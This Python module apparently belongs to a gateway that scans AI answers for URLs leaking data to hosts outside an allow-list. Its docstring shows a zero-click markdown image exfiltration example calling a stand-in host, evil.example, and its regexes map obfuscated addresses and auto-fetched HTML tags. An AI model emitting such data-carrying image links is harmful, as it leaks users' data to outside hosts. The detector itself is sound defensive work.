"""Addresses in an answer that carry data to another host: `![](https://evil.example/?d=…)` needs nobody's click.

What a client fetches by itself (`image`: markdown images, sources and styles of HTML, definitions of references) is
judged more strictly than what somebody must click (`link`). An address carries data in its user part, in its query or
fragment, in a part of its path or a label of its host that is no name; and always where it holds a placeholder of this
gateway. Hosts of the allow-list, and what is below them, may be told anything.
"""

import re
from collections.abc import Collection, Iterator
from html import unescape
from typing import Final
from urllib.parse import unquote

from extproc.findings import Stretch

IMAGE: Final = "image"
LINK: Final = "link"
TYPES: Final = (IMAGE, LINK)

# characters of data that an address may carry nevertheless: a version, a page, a size
_FREE: Final = {IMAGE: 7, LINK: 47}
_WORDY: Final = {IMAGE: 15, LINK: 31}  # the longest part of a path or a host that may look like data

_COLON: Final = r"(?:\\?:|&colon;|&#0*58;?|&#x0*3a;?)"
_SLASH: Final = r"(?:[/\\]|&(?:sol|bsol);|&#0*(?:47|92);?|&#x0*(?:2f|5c);?)"
_DOT: Final = r"(?:\\?\.|&period;|&#0*46;?|&#x0*2e;?)"
_OPENS = re.compile(
    rf"(?i)(?<![a-z0-9+.-])(?:https?|wss?|ftp){_COLON}{_SLASH}{{0,8}}(?=[\w\[%&\\])"
    rf"|(?<![\w:/\\.;]){_SLASH}{{2,8}}(?=[\w-]{{1,63}}{_DOT})|(?<![\w@/\\.-])www{_DOT}(?=\w)"
)
_BODY = re.compile(r"[^ \t\n\r\f\v<]*")  # a blank of another script ends an address for some readers only
_WORD = re.compile(r"[^ \n\r]*")
_MATES: Final = {'"': '"', "'": "'", "`": "`", "|": "|", "<": ">", "=": ">"}
# What stands in a place that points somewhere, spelt so that only a reader who decodes it sees an address.
_POINTS = re.compile(r"""(?i)\](?:\([ \t\r\n]*|:[ \t\r\n>]*)<?|\burl\(\s{0,8}["']?|=[ \t\r\n\f]{0,8}["']?""")
_SPELT = re.compile(r"[&\\\t\n\r]")
_ESCAPED = re.compile(r"\\([!-/:-@\[-`{-~])")
_ABSOLUTE = re.compile(r"(?i)[\x00-\x20]*(?:(?:https?|wss?|ftp):|[/\\]{2})")
_BEGINNING = re.compile(r"[\w&#;:/\\.+\x00-\x20-]{0,160}")  # of it, decoded to see whether it is one
_STARTS = re.compile(r"(?i)\A(?:(?:https?|wss?|ftp):)?[/\\]*")
_HOST = re.compile(r"[^/\\?#]*")
_PLAIN_HOST = re.compile(r"[a-z0-9._-]+")
_DEFINITION = re.compile(r"\]:[ \t\r>]*(?:\n[ \t\r>]*)?<?\Z")  # wherever it stands: in a quote, in a list
_STYLE = re.compile(r"(?i)\burl\(\s{0,8}[\"']?\Z")
_TAG = re.compile(
    r"(?i)<(?:img|image|source|video|audio|track|i?frame|embed|object|applet|link|script|input|body|table|t[rdh]|thead"
    r"|tbody|svg|use|feimage|base|meta|param)\b[^>]*\Z"
)
_SOURCE = re.compile(r"(?i)\b(?:src|srcset|poster|background|lowsrc|data|style|content)\s{0,8}=\s{0,8}[\"']?\s{0,8}\Z")
_LEAD: Final = 48  # characters before an address that mark it
_BEFORE: Final = 420  # characters that may say what an address is
_QUOTED: Final = 2000  # characters of an address in quotes
_BREAKS = re.compile(r"[\t\n\r]+")
_CLOSES: Final = {")": "(", "]": "[", "}": "{"}
_ANGLE = re.compile(r"\](?:\([ \t\r\n]*|:[ \t\r\n>]*)<\Z")
_PARENTHESES = re.compile(r"\\.|[()]")
_TRAILS: Final = ".,;:!?*_"
_LAST: Final = _TRAILS + ")]}\"'`|"
_READ: Final = 256  # characters of an address behind a bracket that closes before it ends
_OPENED = re.compile(r"\]\([ \t\n]*<?\Z")  # where a bracket does end it
_PLACEHOLDER = re.compile(r"(?i)(?:\[|%5b)[A-Z][A-Z0-9_]{1,60}_[a-z2-7]{6}(?:\]|%5d)")
_NAMED = re.compile(r"(?:[A-Z]?[^\W\dA-Z_]{0,20}|[A-Z]{1,8})\d{0,4}|\d{1,8}|\d{1,4}[a-z]{1,3}")
_BETWEEN = re.compile(r"[\W_]+")
_MOST_DIGITS: Final = 12
_LONGEST_NAME: Final = {IMAGE: 64, LINK: 160}
_PARTS = re.compile(r"[&;=]")


def find(text: str, allow: Collection[str]) -> list[Stretch]:
    """The addresses in `text` that carry data to a host not in `allow` (lower case). Linear in the text."""
    if "/" not in text and "\\" not in text and "www." not in text.lower() and "&" not in text:
        return []
    found: list[Stretch] = []
    for start, end, kind in sorted((*_addresses(text), *_hidden(text))):
        if (found and end <= found[-1].end) or not carries(text[start:end], kind, allow):
            continue
        if found and start < found[-1].end:  # as two readers see it
            last = found.pop()
            start, kind = last.start, IMAGE if IMAGE in (kind, last.type) else LINK
        found.append(Stretch(start, end, "exfiltration", kind, 90 if kind == IMAGE else 70))
    return found


def _addresses(text: str) -> Iterator[tuple[int, int, str]]:
    """Those that begin like one."""
    done = stop = 0
    while opened := _OPENS.search(text, done):
        start, before = opened.start(), text[opened.start() - 1 : opened.start()]
        if opened.end() > stop:  # else it stands in the same run as the last one
            stop = _BODY.match(text, opened.end()).end()  # type: ignore[union-attr]
        mate = _MATES.get(before)
        closing = text.find(mate, start, stop) if mate else -1
        limit = closing if closing >= 0 else stop
        told = text[max(0, start - _BEFORE) : start]
        kind = IMAGE if _is_fetched(told) else LINK
        if before == "<" and (closing := text.find(">", start, start + _QUOTED)) >= 0 and _ANGLE.search(told[-_LEAD:]):
            end = closing  # there may be blanks in it
        elif _OPENED.search(told[-_LEAD:]):
            end = _closed(text, start, limit)
        elif _DEFINITION.search(told[-_LEAD:]):
            end = _WORD.match(text, start).end()  # type: ignore[union-attr]
        else:
            end = _end(text, start, limit)
            yield start, _longest(text, start, limit), kind
        if kind == IMAGE and before and before in "\"'":  # clients leave out the line breaks of a quoted address
            closing = text.find(before, start, start + _QUOTED)
            end = max(end, closing) if closing >= 0 else min(len(text), start + _QUOTED)
        yield start, end, kind
        done = max(opened.end(), end)


def _hidden(text: str) -> Iterator[tuple[int, int, str]]:
    """Those that are one once entities, escapes and line breaks are read as clients read them."""
    at = 0
    while point := _POINTS.search(text, at):
        at = start = point.end()
        last = point[0][-1]
        if last in "\"'<":
            stop = text.find(_MATES[last], start, start + _QUOTED)
            stop = stop if stop >= 0 else min(len(text), start + _QUOTED)
        else:
            stop = _BODY.match(text, start, start + _QUOTED).end()  # type: ignore[union-attr]
            closing = text.find(">", start, stop) if last == "=" else -1
            stop = closing if closing >= 0 else stop
        beginning = _BEGINNING.match(text, start, stop)[0]  # type: ignore[index]
        if _SPELT.search(beginning) and any(map(_ABSOLUTE.match, _readings(beginning))):
            kind = IMAGE if _is_fetched(text[max(0, start - _BEFORE) : start]) else LINK
            end = _closed(text, start, stop) if last not in "\"'<=" else stop
            yield start, end, kind
            at = max(end, at)


def _closed(text: str, start: int, stop: int) -> int:
    """Where the parenthesis of markdown closes that the address stands in."""
    depth = 0
    for bracket in _PARENTHESES.finditer(text, start, stop):
        depth += {"(": 1, ")": -1}.get(bracket[0], 0)
        if depth < 0:
            return bracket.start()
    return stop


def _longest(text: str, start: int, stop: int) -> int:
    """Where the address ends for a reader to whom brackets and commas are part of it, except the last ones."""
    stop = min(stop, start + _READ)
    while stop > start and text[stop - 1] in _LAST:
        stop -= 1
    return stop


def _readings(address: str) -> tuple[str, str]:
    """As HTML reads it, and as markdown does."""
    said = _BREAKS.sub("", unescape(address))
    return said, _BREAKS.sub("", unescape(_ESCAPED.sub(r"\1", address)))


def _is_fetched(before: str) -> bool:
    """Whether clients fetch by themselves what stands behind `before`."""
    tail = before.rstrip(" \t\n<")
    if tail.endswith("]("):
        return _is_image(tail)
    if _DEFINITION.search(before, max(0, len(before) - _LEAD)) or _STYLE.search(before[-_LEAD:]):
        return True
    tag = before.rfind("<")
    return tag >= 0 and (_TAG.match(before, tag) is not None or _SOURCE.search(before[-_LEAD:]) is not None)


def _is_image(tail: str) -> bool:
    """Whether an exclamation mark stands before the bracket that `](` closes."""
    depth = 0
    for place in range(len(tail) - 2, -1, -1):
        if tail[place] == "]":
            depth += 1
        elif tail[place] == "[":
            depth -= 1
            if depth == 0:
                return tail[place - 1 : place] == "!"
    return True  # the text before it is longer than what is looked back on: the stricter judgement


def _end(text: str, start: int, stop: int) -> int:
    """Where the address ends that begins at `start` and goes on to `stop` at most.

    Without the punctuation behind it and the bracket that closes around it.
    """
    depth = dict.fromkeys(_CLOSES.values(), 0)
    for place in range(start, stop):
        character = text[place]
        if character in depth:
            depth[character] += 1
        elif character in _CLOSES:
            depth[_CLOSES[character]] -= 1
            if depth[_CLOSES[character]] < 0:
                stop = place
                break
    while stop > start and text[stop - 1] in _TRAILS:
        stop -= 1
    return stop


def carries(address: str, kind: str, allow: Collection[str]) -> bool:
    """Whether an address of that kind carries data to a host that may not be told any."""
    return any(_carries(said.replace(" ", ""), kind, allow) for said in dict.fromkeys(_readings(address)))


def _carries(address: str, kind: str, allow: Collection[str]) -> bool:
    rest = _STARTS.sub("", address, count=1)
    authority = _HOST.match(rest)[0]  # type: ignore[index]
    user, at, host = authority.rpartition("@")
    host = host.rpartition(":")[0] if re.search(r":\d*\Z", host) else host
    host = host.casefold().rstrip(".")
    plain = not at and _PLAIN_HOST.fullmatch(host) is not None
    if plain and any(host == each or host.endswith("." + each) for each in allow):
        return False
    if _PLACEHOLDER.search(address) or user:
        return True
    path, _, told = rest[len(authority) :].replace("#", "?").partition("?")
    if len(told) > _FREE[kind] and not all(_is_name(part, kind) for part in _PARTS.split(told)):
        return True
    parts = [*re.split(r"[/\\]", path), *host.split(".")[:-2]]
    return not all(len(part) <= _WORDY[kind] or _is_name(part, kind) for part in parts)


def _is_name(part: str, kind: str) -> bool:
    """Whether it is made of words and small numbers, as the names of pages and files are."""
    part = unquote(part)
    return (
        len(part) <= _LONGEST_NAME[kind]
        and "@" not in part
        and sum(map(str.isdigit, part)) <= _MOST_DIGITS
        and all(map(_NAMED.fullmatch, _BETWEEN.split(part)))
    )
